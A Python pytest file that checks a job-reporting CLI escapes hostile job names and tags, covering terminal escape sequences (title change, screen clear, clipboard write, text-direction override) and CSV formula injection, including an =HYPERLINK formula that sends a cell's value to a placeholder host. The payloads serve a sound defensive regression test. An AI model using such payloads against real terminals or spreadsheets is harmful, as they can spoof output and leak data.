"""What a user writes into a job name or a tag reaches the administrator's reports as text
(issue 31, N10): no terminal escape acts on the terminal, no CSV cell runs as a formula.

Before, ``report limits --by task`` printed a name's ``ESC]0;PWNED BEL`` and ``ESC[2J`` raw
(a title change and a screen clear), a tag's percent-decoded task ``ESC]52;c;...`` (a
clipboard write), and ``--format csv`` a live ``=HYPERLINK(...)``.  Jobs are stored by the real
update from a saved dump (the captured job 38 with its name and comment replaced).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from advisor.cli import main
from advisor.errors import InputError
from advisor.render import Result, Table, render
from tests.helpers.hostile_jobs import dump, job

ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mred\x9b2J\u202eevil"
TAGGED = "advisor:wrapper,action=set,limit=10,q=0.95,task=%1B%5B31mTASKRED%1B%5D52%3Bc%3BZWNobyBoaQ%3D%3D%07"
FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"ok")'


@pytest.fixture
def cache(tmp_path: Path) -> Path:
    jobs = [
        job(900, name=ESCAPES),
        job(901, name="plain", comment=TAGGED),
        job(902, name=FORMULA),
        job(903, name="-2+3"),
        job(904, name="@SUM(A1)"),
    ]
    path = tmp_path / "cache.db"
    assert (
        main(["--db", str(path), "update", "--sacct-file", str(dump(tmp_path / "d.txt", jobs))])
        == 0
    )
    return path


def _report(cache: Path, capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    capsys.readouterr()
    assert main(["--db", str(cache), *argv]) == 0
    return capsys.readouterr().out


@pytest.mark.parametrize("fmt", ["table", "simple", "github", "plain", "csv"])
def test_no_control_character_from_a_name_or_tag_reaches_the_report(
    cache: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    out = _report(cache, capsys, "--format", fmt, "report", "limits", "--by", "task")
    assert not any((ord(c) < 32 and c not in "\n") or 0x7F <= ord(c) < 0xA0 for c in out)
    assert "\u202e" not in out and "\\x1b]0;PWNED\\x07" in out and "\\u202eevil" in out
    assert "\\x1b[31mTASKRED\\x1b]52;c;ZWNobyBoaQ==\\x07" in out  # the tag's task, shown


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(
    cache: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = _report(cache, capsys, "--format", "csv", "report", "limits", "--by", "task")
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert "'" + FORMULA in cells and "'-2+3" in cells and "'@SUM(A1)" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    numbers = render(Result(None, (Table([{"a": -2, "b": "-1.5", "c": "+3"}]),)), "csv")
    assert numbers.splitlines()[1] == "-2,-1.5,+3"  # numbers stay numbers


def test_notes_titles_and_errors_escape_what_they_quote(
    capsys: pytest.CaptureFixture[str],
) -> None:
    result = Result(None, (Table([{"x": 1}], title="t\x1b[2J"),), notes=("a\tb\nc\x1b]0;x\x07",))
    text = render(result, "table")
    assert "\x1b" not in text and "\x07" not in text and "a\tb\nc\\x1b]0;x\\x07" in text
    error = InputError("job \x1b[2Jx\r\nforged line", hint="\x07")
    assert error.one_line() == "job \\x1b[2Jx\\r\\nforged line; \\x07"
